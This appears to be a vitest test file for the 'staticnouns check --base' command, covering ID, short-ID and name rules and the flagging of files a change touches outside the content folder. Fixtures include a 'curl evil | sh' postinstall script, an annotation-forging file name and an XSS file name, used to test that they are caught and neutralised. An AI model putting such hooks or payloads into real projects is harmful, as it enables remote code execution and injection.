/**
 * `check --base` against a real git history made in each test:
 * base = main after alex and blair were added, then blair was deleted.
 */
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { cli } from '../helpers/cli.ts';
import { makeProject, profile } from '../helpers/repo.ts';
import { withoutFreshIds } from '../helpers/fresh-id.ts';
import { derivedSid } from '../../src/content/validate/short-ids.ts';

const ALEX = 'aaaaaaaaaaaaaaaaaaaa';
const BLAIR = 'bbbbbbbbbbbbbbbbbbbb';
const NEW = 'cccccccccccccccccccc';

const DEFAULTS = 'Judged by the default options: main has no Astro config.\n';

let project: Awaited<ReturnType<typeof makeProject>>;
beforeEach(async () => {
	project = await makeProject();
	await project.write({
		'content/users/alex.md': profile(ALEX),
		'content/users/blair.json': JSON.stringify({ id: BLAIR }),
	});
	project.commit('add alex and blair');
	await project.remove('content/users/blair.json');
	project.commit('remove blair');
});
afterEach(() => project.cleanup());

const check = async (env: Record<string, string> = {}) => {
	const result = await cli(['check', '--base', 'main'], {
		cwd: project.dir,
		env: { GITHUB_ACTIONS: '', ...env },
	});
	// The line saying which options judged (asserted where they matter), apart from the rest.
	const judged = /^Judged by [^\n]*\n/.exec(result.stdout)?.[0];
	return {
		...result,
		stdout: withoutFreshIds(result.stdout.slice(judged?.length ?? 0)),
		stderr: withoutFreshIds(result.stderr),
		judged,
	};
};

describe('staticnouns check --base', () => {
	test('passes when nothing changed', async () => {
		expect(await check()).toEqual({
			code: 0,
			stdout: '1 profile is valid.\n',
			stderr: '',
			judged: DEFAULTS,
		});
	});

	test('passes a new profile with a new ID', async () => {
		await project.write({ 'content/users/casey.md': profile(NEW) });
		expect((await check()).code).toBe(0);
	});

	test('errors if an existing profile changed its ID, at the line of the ID', async () => {
		await project.write({ 'content/users/alex.md': `---\n# edited\nid: ${NEW}\n---\n` });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toBe(
			`content/users/alex.md:3: id: the ID changed from "${ALEX}" (at main) to "${NEW}"; IDs never change: put back id: ${ALEX}\n1 problem in 1 file.\n`,
		);
	});

	test('errors if a new profile reuses the ID of a deleted one', async () => {
		await project.write({ 'content/users/casey.md': profile(BLAIR) });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toContain(
			`content/users/casey.md:2: id: the ID "${BLAIR}" belonged to "blair" before (in the history of main); IDs are never reused, even after a deletion`,
		);
	});

	test('errors if an existing profile changes its short ID, derived or written (issue 32)', async () => {
		const before = derivedSid(ALEX, 'user');
		await project.write({ 'content/users/alex.md': `---\nid: ${ALEX}\nsid: zzzzz\n---\n` });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toBe(
			`content/users/alex.md:3: sid: the short ID changed from "${before}" (at main) to "zzzzz"; a published short ID never changes, as {site}/s/${before} must keep leading here: put back sid: ${before}\n1 problem in 1 file.\n`,
		);
	});

	test('passes a profile that writes down the short ID it had', async () => {
		await project.write({
			'content/users/alex.md': `---\nid: ${ALEX}\nsid: ${derivedSid(ALEX, 'user')}\n---\n`,
		});
		expect((await check()).code).toBe(0);
	});

	test('errors if a new profile takes the short ID of a deleted one (issue 32)', async () => {
		const blairs = derivedSid(BLAIR, 'user');
		await project.write({ 'content/users/casey.md': `---\nid: ${NEW}\nsid: ${blairs}\n---\n` });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toMatch(
			new RegExp(
				`^content/users/casey\\.md:3: sid: the short ID "${blairs}" belonged to the profile with ID "${BLAIR}" before \\(in the history of main\\); short IDs never pass to someone else, even after a deletion: give this profile its own, such as this fresh one: sid: [a-z]{5}\n1 problem in 1 file\\.\n$`,
			),
		);
	});

	test('passes a deleted profile coming back under the same name and ID', async () => {
		await project.write({ 'content/users/blair.md': profile(BLAIR) });
		expect((await check()).code).toBe(0);
	});

	test('reports a moved file keeping its ID as a rename', async () => {
		await project.remove('content/users/alex.md');
		await project.write({ 'content/users/alexandra/index.md': profile(ALEX) });
		expect(await check()).toEqual({
			code: 0,
			judged: DEFAULTS,
			stdout: `renamed: content/users/alex.md → content/users/alexandra/index.md (same ID ${ALEX})\nPublished from the profile this change adds or edits, with their members: 18 files, about 14.2 KB: 2 pages (about 12.5 KB), 16 API files (1.7 KB).\n1 profile is valid.\n`,
			stderr: '',
		});
	});

	test('passes a renamed profile whose old name a new profile takes in another file', async () => {
		await project.remove('content/users/alex.md');
		await project.write({
			'content/users/alexandra.md': profile(ALEX),
			'content/users/alex/index.md': profile(NEW),
		});
		const result = await check();
		expect(result.code).toBe(0);
		expect(result.stdout).toContain(
			`renamed: content/users/alex.md → content/users/alexandra.md (same ID ${ALEX})`,
		);
	});

	test('errors if a file that is still here gives its ID to another: a rename only when the old file is gone', async () => {
		await project.write({
			'content/users/alexandra.md': profile(ALEX),
			'content/users/alex.md': profile(NEW),
		});
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stdout).toBe('');
		expect(result.stderr).toMatchInlineSnapshot(`
			"content/users/alex.md:2: id: the ID changed from "aaaaaaaaaaaaaaaaaaaa" (at main) to "cccccccccccccccccccc"; IDs never change: put back id: aaaaaaaaaaaaaaaaaaaa
			content/users/alexandra.md:2: id: the ID "aaaaaaaaaaaaaaaaaaaa" is the one content/users/alex.md had at main, and that file is still here; an ID moves only with its file (a rename): give this profile a new ID, such as this fresh one: id: <fresh id>
			2 problems in 2 files.
			"
		`);
	});

	test('prints GitHub annotations with file and line under GitHub Actions', async () => {
		await project.write({
			'content/users/alex.md': `---\nid: ${NEW}\npronouns: [{ pronouns: they/them, status: sometimes }]\n---\n`,
		});
		const result = await check({ GITHUB_ACTIONS: 'true' });
		expect(result.code).toBe(1);
		expect(result.stdout.split('\n').filter(Boolean)).toEqual([
			'::error file=content/users/alex.md,line=3,title=pronouns[0].status::unknown status "sometimes": not one of the five (favourite, okay, jokingly, friends_only, avoid); define it under statuses: with a label and counts_as',
			`::error file=content/users/alex.md,line=2,title=id::the ID changed from "${ALEX}" (at main) to "${NEW}"; IDs never change: put back id: ${ALEX}`,
		]);
	});

	test('points YAML errors at their line in annotations too', async () => {
		await project.write({ 'content/users/alex.md': `---\nid: ${ALEX}\nnames: [a, b\n---\n` });
		const result = await check({ GITHUB_ACTIONS: 'true' });
		expect(result.stdout).toMatch(
			/^::error file=content\/users\/alex\.md,line=4::invalid YAML: a list in \[ \] or \{ \} is not closed$/m,
		);
	});

	test('errors clearly on a ref that does not exist', async () => {
		const result = await cli(['check', '--base', 'no-such-branch'], { cwd: project.dir });
		expect(result).toEqual({
			code: 2,
			stdout: '',
			stderr:
				'staticnouns check: no commit "no-such-branch" in this repository (in CI, fetch the base branch: actions/checkout with fetch-depth: 0)\n',
		});
	});

	test('errors clearly when --base is given no ref', async () => {
		const result = await cli(['check', '--base'], { cwd: project.dir });
		expect(result.code).toBe(2);
		expect(result.stderr).toMatch(/^staticnouns check: Option '--base <value>' argument missing/);
	});
});

/**
 * Which file is blamed must not depend on the alphabet: the base has alex.md
 * and river.md; the change adds a file that clashes with one of them, named
 * to sort before it.
 */
// Two xids whose first derived user sids meet: iyrhl (test/content/validate/short-ids.test.ts).
const OLDER = 'd4gn7g3p38l77tn1005k';
const NEWER = 'd4gn7g3p38l77tn1007b';

describe('staticnouns check --base, derived short IDs that meet', () => {
	test('a site whose files derive one short ID twice passes: the later ID takes its next round', async () => {
		await project.write({
			'content/users/older.md': profile(OLDER),
			'content/users/newer.md': profile(NEWER),
		});
		project.commit('add two profiles whose derived sids meet');
		expect(await check()).toMatchObject({ code: 0, stdout: '3 profiles are valid.\n' });
	});

	test('a new profile whose derived sid moves a published one is told to take its own; the published one is not', async () => {
		await project.write({ 'content/users/newer.md': profile(NEWER) });
		project.commit('add newer: its derived sid is iyrhl');
		await project.write({ 'content/users/older.md': profile(OLDER) });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toMatch(
			/^content\/users\/older\.md:2: sid: the short ID "iyrhl" belonged to the profile with ID "d4gn7g3p38l77tn1007b" before \(in the history of main\); short IDs never pass to someone else, even after a deletion: give this profile its own, such as this fresh one: sid: [a-z]{5}\n1 problem in 1 file\.\n$/,
		);
	});

	test('deleting the profile that kept the sid: the one that moved is told to write down its own', async () => {
		await project.write({
			'content/users/older.md': profile(OLDER),
			'content/users/newer.md': profile(NEWER),
		});
		project.commit('add both');
		await project.remove('content/users/older.md');
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toBe(
			'content/users/newer.md:2: sid: the short ID changed from "agpmp" (at main) to "iyrhl"; a published short ID never changes, as {site}/s/agpmp must keep leading here: put back sid: agpmp\n1 problem in 1 file.\n',
		);
		await project.write({ 'content/users/newer.md': profile(NEWER, 'sid: agpmp\n') });
		expect((await check()).code).toBe(0);
	});
});

describe('staticnouns check --base, with members', () => {
	const JUNE = 'eeeeeeeeeeeeeeeeeeee';
	const GONE = 'ffffffffffffffffffff';
	beforeEach(async () => {
		// alex moves to the folder form and gets two members, then loses one.
		await project.remove('content/users/alex.md');
		await project.write({
			'content/users/alex/index.md': profile(ALEX),
			'content/users/alex/members/june.md': profile(JUNE),
			'content/users/alex/members/gone/index.md': profile(GONE),
		});
		project.commit('alex gets members');
		await project.remove('content/users/alex/members/gone/index.md');
		project.commit('remove gone');
	});

	test('passes when nothing changed, counting the members', async () => {
		expect(await check()).toEqual({
			code: 0,
			judged: DEFAULTS,
			stdout: '1 profile and 1 member are valid.\n',
			stderr: '',
		});
	});

	test('errors if an existing member changed its ID', async () => {
		await project.write({ 'content/users/alex/members/june.md': profile(NEW) });
		expect((await check()).stderr).toBe(
			`content/users/alex/members/june.md:2: id: the ID changed from "${JUNE}" (at main) to "${NEW}"; IDs never change: put back id: ${JUNE}\n1 problem in 1 file.\n`,
		);
	});

	test('errors if a new member or a new user reuses the ID of a deleted member', async () => {
		await project.write({
			'content/users/alex/members/kim.md': profile(GONE),
			'content/users/casey.md': profile(BLAIR),
		});
		const { stderr } = await check();
		expect(stderr).toContain(
			`content/users/alex/members/kim.md:2: id: the ID "${GONE}" belonged to "alex/gone" before (in the history of main); IDs are never reused, even after a deletion`,
		);
		expect(stderr).toContain(
			`content/users/casey.md:2: id: the ID "${BLAIR}" belonged to "blair" before`,
		);
	});

	test('errors if a new user reuses the ID of a deleted member, and a new member the ID of a deleted user', async () => {
		await project.write({
			'content/users/gone.md': profile(GONE),
			'content/users/alex/members/blair.md': profile(BLAIR),
		});
		const { stderr } = await check();
		expect(stderr).toContain(
			`content/users/gone.md:2: id: the ID "${GONE}" belonged to "alex/gone" before`,
		);
		expect(stderr).toContain(
			`content/users/alex/members/blair.md:2: id: the ID "${BLAIR}" belonged to "blair" before`,
		);
	});

	test('passes a deleted member coming back under the same user, name and ID', async () => {
		await project.write({ 'content/users/alex/members/gone.md': profile(GONE) });
		expect((await check()).code).toBe(0);
	});

	test('blames a new member that takes the ID of an existing user', async () => {
		await project.write({ 'content/users/alex/members/copy.md': profile(ALEX) });
		expect((await check()).stderr).toBe(
			`content/users/alex/members/copy.md:2: id: the ID "${ALEX}" is already used by content/users/alex/index.md; IDs are unique: give this profile a new ID, such as this fresh one: id: <fresh id>\n1 problem in 1 file.\n`,
		);
	});

	test('reports a member moved to another user, keeping its ID, as a rename', async () => {
		await project.remove('content/users/alex/members/june.md');
		await project.write({
			'content/users/sam/index.md': profile(NEW),
			'content/users/sam/members/june/index.md': profile(JUNE),
		});
		expect(await check()).toEqual({
			code: 0,
			judged: DEFAULTS,
			stdout: `renamed: content/users/alex/members/june.md → content/users/sam/members/june/index.md (same ID ${JUNE})\nPublished from the profile this change adds or edits, with their members: 32 files, about 30.8 KB: 4 pages (about 24.9 KB), 28 API files (5.9 KB).\n2 profiles and 1 member are valid.\n`,
			stderr: '',
		});
	});
});

describe('staticnouns check --base, after new <user>/<member> moved the user', () => {
	test('passes the move (same name, same ID: not even a rename), and names the CODEOWNERS lines to change until owners is run', async () => {
		await project.write({ 'content/users/alex.md': profile(ALEX, 'owners: [alex-gh]\n') });
		expect((await cli(['owners'], { cwd: project.dir })).code).toBe(0);
		project.commit('alex owns alex.md');
		const added = await cli(['new', 'alex/june'], { cwd: project.dir });
		expect(added.stdout).toContain('Edit it, then run: npx staticnouns owners && npm run check\n');
		const stale = await check();
		expect(stale.code).toBe(1);
		expect(stale.stdout).toBe('');
		expect(stale.stderr).toMatchInlineSnapshot(`
			".github/CODEOWNERS: is out of date with the profiles' owners (it makes a change to a profile need its owners' approval): run "npx staticnouns owners" and commit .github/CODEOWNERS; in the web editor instead, add "/content/users/alex/ @alex-gh" and remove "/content/users/alex.md @alex-gh" between its lines "# BEGIN staticnouns owners…" and "# END staticnouns owners"
			1 problem in 1 file.
			"
		`);
		expect((await cli(['owners'], { cwd: project.dir })).code).toBe(0);
		expect(await check()).toEqual({
			code: 0,
			judged: DEFAULTS,
			stdout:
				'Published from the profile this change adds or edits, with their members: 32 files, about 31.5 KB: 4 pages (about 25.0 KB), 28 API files (6.5 KB).\n1 profile and 1 member are valid.\n',
			stderr: '',
		});
	});
});

describe('staticnouns check --base, blaming the file the change adds', () => {
	const RIVER = 'dddddddddddddddddddd';
	beforeEach(async () => {
		await project.write({ 'content/users/river.md': profile(RIVER) });
		project.commit('add river');
	});

	test('blames a copy of an existing profile, not the original, and reports no rename', async () => {
		await project.write({
			'content/users/abby.md': `---\n# copied from alex.md\nid: ${ALEX}\n---\n`,
		});
		const result = await check({ GITHUB_ACTIONS: 'true' });
		expect(result.code).toBe(1);
		expect(result.stdout).toBe(
			`::error file=content/users/abby.md,line=3,title=id::the ID "${ALEX}" is already used by content/users/alex.md; IDs are unique: give this profile a new ID, such as this fresh one: id: <fresh id>\n`,
		);
		expect(result.stderr).toBe(
			`content/users/abby.md:3: id: the ID "${ALEX}" is already used by content/users/alex.md; IDs are unique: give this profile a new ID, such as this fresh one: id: <fresh id>\n1 problem in 1 file.\n`,
		);
	});

	test('blames a new profile whose name differs from an existing one only in case', async () => {
		await project.write({ 'content/users/RIVER.md': profile(NEW) });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toBe(
			'content/users/RIVER.md:1: name: the name "RIVER" is already taken by content/users/river.md ("river"); names are unique ignoring case, because case-insensitive disks and hosts cannot tell them apart: rename this file\n1 problem in 1 file.\n',
		);
	});

	test("blames an existing profile that changed its ID to another's", async () => {
		await project.write({ 'content/users/river.md': profile(ALEX) });
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toMatchInlineSnapshot(`
			"content/users/river.md:2: id: the ID "aaaaaaaaaaaaaaaaaaaa" is already used by content/users/alex.md; IDs are unique: give this profile a new ID, such as this fresh one: id: <fresh id>
			content/users/river.md:2: id: the ID changed from "dddddddddddddddddddd" (at main) to "aaaaaaaaaaaaaaaaaaaa"; IDs never change: put back id: dddddddddddddddddddd
			2 problems in 1 file.
			"
		`);
	});

	test.each([
		[
			'an added file',
			{ 'content/users/abby.md': profile(ALEX) },
			/^content\/users\/abby\.md:2: id: the ID "a{20}" is already used by content\/users\/alex\.md/,
		],
		[
			'a file renamed in git',
			{},
			/^content\/users\/abby\.md:2: id: the ID "a{20}" is already used by content\/users\/alex\.md/,
		],
	])('without --base, blames %s, not a file committed as it is', async (label, files, start) => {
		if (label === 'a file renamed in git') {
			// A committed river.md, renamed (git mv) to abby.md and given alex's ID.
			project.git('mv', 'content/users/river.md', 'content/users/abby.md');
			await project.write({ 'content/users/abby.md': profile(ALEX) });
		}
		await project.write(files);
		const result = await cli(['check'], { cwd: project.dir });
		expect(result.code).toBe(1);
		expect(result.stderr).toMatch(start);
	});

	test('without --base, outside git, blames by the order of the files, as the build does', async () => {
		const bare = await makeProject({ git: false });
		await bare.write({
			'content/users/alex.md': profile(ALEX),
			'content/users/abby.md': profile(ALEX),
		});
		const result = await cli(['check'], {
			cwd: bare.dir,
			env: { GIT_CEILING_DIRECTORIES: bare.dir.replace(/\/[^/]+$/, '') },
		});
		await bare.cleanup();
		expect(result.stderr).toMatch(
			/^content\/users\/alex\.md:2: id: the ID "a{20}" is already used by content\/users\/abby\.md/,
		);
	});
});

describe('staticnouns check --base without history', () => {
	test('errors clearly in a repository with no commits', async () => {
		const empty = await makeProject();
		await empty.write({ 'content/users/alex.md': profile(ALEX) });
		const result = await cli(['check', '--base', 'main'], { cwd: empty.dir });
		await empty.cleanup();
		expect(result).toEqual({
			code: 2,
			stdout: '',
			stderr:
				'staticnouns check: this repository has no commits yet; --base needs history to compare with\n',
		});
	});

	test('errors clearly outside a git repository', async () => {
		const bare = await makeProject({ git: false });
		await bare.write({ 'content/users/alex.md': profile(ALEX) });
		const result = await cli(['check', '--base', 'main'], {
			cwd: bare.dir,
			env: { GIT_CEILING_DIRECTORIES: bare.dir.replace(/\/[^/]+$/, '') },
		});
		await bare.cleanup();
		expect(result.code).toBe(2);
		expect(result.stderr).toMatch(
			/^staticnouns check: .* is not inside a git repository; --base needs the project's git history\n$/,
		);
	});
});

describe("judges by the base's options, running none of the change's code (issue 31, point 3)", () => {
	const astroConfig = (options: string, code = '') =>
		`import { defineConfig } from 'astro/config';\nimport staticnouns from 'staticnouns';\n${code}\nexport default defineConfig({ integrations: [staticnouns(${options})] });\n`;
	const PRONOUNS = (count: number) =>
		`pronouns:\n${Array.from({ length: count }, (_, index) => `  - p${index}/q${index}\n`).join('')}`;

	test("a change raising limits.pronouns in its own config is judged by the base's limit, and its config never runs", async () => {
		await project.write({ 'astro.config.mjs': astroConfig('{ limits: { pronouns: 2 } }') });
		project.commit('limits');
		await project.write({
			'astro.config.mjs': astroConfig(
				'{ limits: { pronouns: 300 } }',
				"import { writeFileSync } from 'node:fs';\nwriteFileSync(new URL('./ran.txt', import.meta.url), 'ran');",
			),
			'content/users/casey.md': profile(NEW, PRONOUNS(3)),
		});
		const result = await check();
		expect(result.code).toBe(1);
		expect([result.judged, result.stdout]).toEqual([
			'Judged by the options of astro.config.mjs at main, read without running it: limits.pronouns 2; every other limit its default.\n',
			'This change also adds, changes or removes 1 file outside content/, which the profile check does not judge: a maintainer must review it.\n  site code and config:\n    changed  astro.config.mjs\n',
		]);
		expect(result.stderr).toMatch(/^content\/users\/casey\.md:\d+: pronouns: .*\b2\b/);
		expect(existsSync(join(project.dir, 'ran.txt'))).toBe(false);
	});

	test('says the defaults judged when the base has no config, whatever the change adds', async () => {
		await project.write({
			'astro.config.mjs': astroConfig('{ limits: { pronouns: 300 } }'),
			'content/users/casey.md': profile(NEW, PRONOUNS(51)),
		});
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.judged).toBe('Judged by the default options: main has no Astro config.\n');
		expect(result.stderr).toMatch(/^content\/users\/casey\.md:\d+: pronouns: .*\b50\b/);
	});

	test('refuses limits the base sets by code, with the fix', async () => {
		await project.write({
			'astro.config.mjs': astroConfig('{ limits: { pronouns: Number(process.env.P) } }'),
		});
		project.commit('dynamic limits');
		expect(await check()).toEqual({
			code: 1,
			stdout: '',
			judged: undefined,
			stderr:
				'astro.config.mjs at main: limits.pronouns is not a plain value (a variable, process.env, a call), so check --base cannot know it without running the config: write the number itself there\n',
		});
	});
});

describe('names every file the change touches outside the content folder (issue 31, point 2)', () => {
	const LIST = [
		'This change also adds, changes or removes 6 files outside content/, which the profile check does not judge: a maintainer must review them.',
		'  site code and config:',
		'    changed  astro.config.mjs',
		'    added    src/pages/login.astro',
		'  workflows and package files:',
		'    added    .github/workflows/extra.yml',
		'    changed  package.json',
		'  public/:',
		'    added    public/assets/run.png',
		'    removed  public/favicon.svg',
		'',
	].join('\n');
	beforeEach(async () => {
		await project.write({
			'astro.config.mjs': 'export default {};\n',
			'package.json': '{ "name": "site" }\n',
			'public/favicon.svg': '<svg/>',
			'.github/CODEOWNERS': '* @org/maintainers\n',
		});
		project.commit('site');
		await project.write({
			'content/users/casey.md': profile(NEW),
			'astro.config.mjs': 'export default { integrations: [] };\n',
			'package.json': '{ "name": "site", "scripts": { "postinstall": "curl evil | sh" } }\n',
			'src/pages/login.astro': '<form></form>',
			'.github/workflows/extra.yml': 'on: push\n',
			'public/assets/run.png': '#!/bin/sh\n',
		});
		await project.remove('public/favicon.svg');
	});

	test('lists them grouped, apart from the verdict, and fails for them by default', async () => {
		const result = await check();
		expect(result).toMatchObject({
			code: 1,
			judged:
				'Judged by the options of astro.config.mjs at main, read without running it: the default limits.\n',
		});
		expect(result.stdout).toBe(
			`${LIST}Published from the profile this change adds or edits, with their members: 18 files, about 14.1 KB: 2 pages (about 12.4 KB), 16 API files (1.7 KB).\n2 profiles are valid.\n`,
		);
		expect(result.stderr).toBe(
			"6 files outside the content folder changed (listed above): a profile change touches only the content folder. A maintainer reviews them, then runs the check with --allow-site-changes (the pull-request workflow does for maintainers' and Dependabot's pull requests, and for one labelled site-change).\n",
		);
	});

	test('annotates each file under GitHub Actions, escaped, and none once allowed', async () => {
		await project.write({ 'src/x\n::warning::forged.ts': '' });
		const result = await check({ GITHUB_ACTIONS: 'true' });
		const annotations = result.stdout.split('\n').filter((line) => line.startsWith('::'));
		expect(annotations).toHaveLength(7);
		expect(annotations.find((line) => line.includes('login.astro'))).toBe(
			'::error file=src/pages/login.astro::added outside the content folder: a profile change touches only the content folder; a maintainer reviews this file',
		);
		// The file name's newline cannot start a forged command.
		expect(annotations.filter((line) => line.includes('forged'))).toEqual([
			expect.stringMatching(/^::error file=src\/x%0A/),
		]);
		expect(result.stdout).not.toMatch(/^::warning/m);
		const allowed = await cli(['check', '--base', 'main', '--allow-site-changes'], {
			cwd: project.dir,
			env: { GITHUB_ACTIONS: 'true' },
		});
		expect(allowed.stdout).not.toContain('::error');
	});

	test('passes with --allow-site-changes, still listing them', async () => {
		const result = await cli(['check', '--base', 'main', '--allow-site-changes'], {
			cwd: project.dir,
			env: { GITHUB_ACTIONS: '' },
		});
		expect(result.code).toBe(0);
		expect(result.stdout).toContain(LIST);
		expect(result.stderr).toBe('');
	});

	test("counts what the base gained since the change left it as the base's, not the change's", async () => {
		project.git('switch', '-q', '-c', 'pr');
		project.commit('the pull request');
		project.git('switch', '-q', 'main');
		await project.write({ 'src/main-only.ts': 'export {};\n' });
		project.commit('main moves on');
		project.git('switch', '-q', 'pr');
		const result = await check();
		expect(result.stdout).toContain(LIST);
		expect(result.stdout).not.toContain('main-only');
	});

	test("takes a CODEOWNERS change inside the owners' block as content's, and one outside it as a site file", async () => {
		await project.write({
			'content/users/casey.md': profile(NEW, 'owners: [casey-gh]\n'),
			'.github/CODEOWNERS':
				'* @org/maintainers\n\n# BEGIN staticnouns owners: generated by `npx staticnouns owners` from the owners in each profile; edit those, not this block\n/content/users/casey.md @casey-gh\n# END staticnouns owners\n',
		});
		expect((await check()).stdout).not.toContain('CODEOWNERS');
		await project.write({
			'.github/CODEOWNERS':
				'* @casey-gh\n\n# BEGIN staticnouns owners: generated by `npx staticnouns owners` from the owners in each profile; edit those, not this block\n/content/users/casey.md @casey-gh\n# END staticnouns owners\n',
		});
		expect((await check()).stdout).toContain('    changed  .github/CODEOWNERS\n');
	});

	test('writes the list and, apart, the verdict to the job summary, every name inert', async () => {
		await project.write({ 'src/<img src=x onerror=alert(1)>`|*.astro': '' });
		const summary = join(project.dir, '..', `${project.dir.split('/').pop()}-summary.md`);
		await cli(['check', '--base', 'main', '--summary', summary], {
			cwd: project.dir,
			env: { GITHUB_ACTIONS: '' },
		});
		const text = readFileSync(summary, 'utf8');
		rmSync(summary);
		expect(text).toContain('### Files outside content/: 7, for a maintainer to review');
		expect(text).toContain(
			'- added: <code>src/&#60;img src&#61;x onerror&#61;alert&#40;1&#41;&#62;&#96;&#124;&#42;.astro</code>',
		);
		expect(text).not.toContain('<img');
		expect(text.endsWith('### Profiles\n\n2 profiles are valid.\n')).toBe(true);
	});
});

describe("check's parse cache in a working tree that does not ignore node_modules/ (issue 41)", () => {
	const CACHE = 'node_modules/.cache/staticnouns/profiles/profiles.json';

	test("the cache check writes is not the change's: a second check passes as the first", async () => {
		const first = await check();
		expect(first).toMatchObject({ code: 0, stdout: '1 profile is valid.\n', stderr: '' });
		// Written, and untracked: a file a change would add, were it not check's own.
		expect(project.git('ls-files', '--others', '--exclude-standard')).toContain(CACHE);
		expect(await check()).toEqual(first);
	});

	test("a file a change commits under the cache's folder is judged as any other", async () => {
		project.git('switch', '-q', '-c', 'pr');
		await project.write({
			[CACHE]: '{"format":2,"version":"forged","entries":{}}',
			'node_modules/.cache/staticnouns/profiles/run.sh': '#!/bin/sh\n',
		});
		project.git('add', '-f', 'node_modules');
		project.commit('a cache of my own');
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stdout).toContain(
			[
				'  site code and config:',
				`    added    ${CACHE}`,
				'    added    node_modules/.cache/staticnouns/profiles/run.sh',
				'',
			].join('\n'),
		);
	});
});

describe('refuses new names that read as existing ones (issue 31, point 4)', () => {
	test('aIex beside alex and rnorgan beside morgan, with the same display names; existing look-alikes stand', async () => {
		await project.write({
			'content/users/morgan.md': profile('dddddddddddddddddddd', 'display_name: Morgan\n'),
			'content/users/a1ex.md': profile('eeeeeeeeeeeeeeeeeeee'),
		});
		project.commit('morgan, and a1ex from before the rule');
		await project.write({
			'content/users/aIex.md': profile(NEW, 'display_name: Alex\n'),
			'content/users/rnorgan.md': profile('ffffffffffffffffffff', 'display_name: Morgan\n'),
			'content/users/robin.md': profile('gggggggggggggggggggg'),
		});
		const result = await check();
		expect(result.code).toBe(1);
		expect(result.stderr).toBe(
			[
				'content/users/aIex.md:1: name: the name "aIex" reads as "a1ex" (content/users/a1ex.md): letters that look alike (I, l and 1; O and 0; rn and m; vv and w; cl and d; any case) would send readers to the wrong person: choose a name that does not read as another\'s',
				'content/users/rnorgan.md:1: name: the name "rnorgan" reads as "morgan" (content/users/morgan.md): letters that look alike (I, l and 1; O and 0; rn and m; vv and w; cl and d; any case) would send readers to the wrong person: choose a name that does not read as another\'s',
				'2 problems in 2 files.',
				'',
			].join('\n'),
		);
	});
});
